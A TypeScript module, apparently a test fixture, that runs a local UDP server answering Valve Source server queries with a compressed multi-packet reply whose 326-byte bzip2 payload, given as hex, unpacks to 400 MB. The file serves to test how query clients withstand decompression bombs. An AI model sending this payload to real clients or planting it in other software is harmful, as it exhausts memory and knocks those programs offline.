/**
 * A hostile game server: it answers a Source query by one compressed packet of 326 bytes that unpacks to 400 MB.
 * https://developer.valvesoftware.com/wiki/Server_queries#Multi-packet_Response_Format
 */
import { createSocket, type Socket } from "node:dgram";
import { once } from "node:events";

/** What `bzip2 -9` makes of 400,000,000 bytes of zero: 8 times the same block, and the rest. */
const BLOCK = "3141592653590e09e2df015f8e4000c0000008200030804d4642a025a90a8097";
const PACKED = Buffer.from(
  `425a6839${BLOCK.repeat(8)}31415926535922b9910500fb45c100c00000008008200030cc09aa69895220daa8a91078bb9229c28486c05dc320`,
  "hex",
);

export async function valveBomb(): Promise<Socket> {
  const socket = createSocket("udp4").bind(0, "127.0.0.1");
  const header = Buffer.alloc(20);
  header.writeInt32LE(-2, 0);
  header.writeUInt32LE(0x80000001, 4);
  header.writeUInt8(1, 8);
  header.writeUInt16LE(1200, 10);
  socket.on("message", (_message, { port, address }) => {
    socket.send(Buffer.concat([header, PACKED]), port, address);
  });
  await once(socket, "listening");
  return socket;
}
